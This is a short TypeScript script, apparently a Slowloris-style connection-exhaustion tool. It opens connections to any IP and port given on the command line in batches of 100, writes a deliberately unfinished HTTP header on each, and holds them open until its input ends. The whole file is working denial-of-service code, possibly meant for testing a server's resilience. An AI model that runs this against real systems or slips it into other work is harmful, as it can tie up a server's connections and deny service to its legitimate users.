/**
 * Opens connections, leaves them alone in the middle of a request, and prints how many could be opened as JSON:
 * `node flood.ts IP PORT CONNECTIONS`. It ends, and they with it, when its standard input ends.
 */
import { connect } from 'node:net';

const [host = '', port = '80', connections = '1'] = process.argv.slice(2);
const AT_A_TIME = 100;

function open(): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host, port: Number(port) }, () => {
      socket.write('GET /api/healthcheck HTTP/1.1\r\nHost: x\r\nX: ');
      socket.off('error', reject);
      // The server makes room for others.
      socket.on('error', () => socket.destroy());
      resolve();
    });
    socket.once('error', reject);
  });
}

let opened = 0;
for (; opened < Number(connections); opened += AT_A_TIME) await Promise.all(Array.from({ length: AT_A_TIME }, open));
process.stdout.write(`${JSON.stringify({ opened })}\n`);
process.stdin.resume().once('end', () => process.exit());
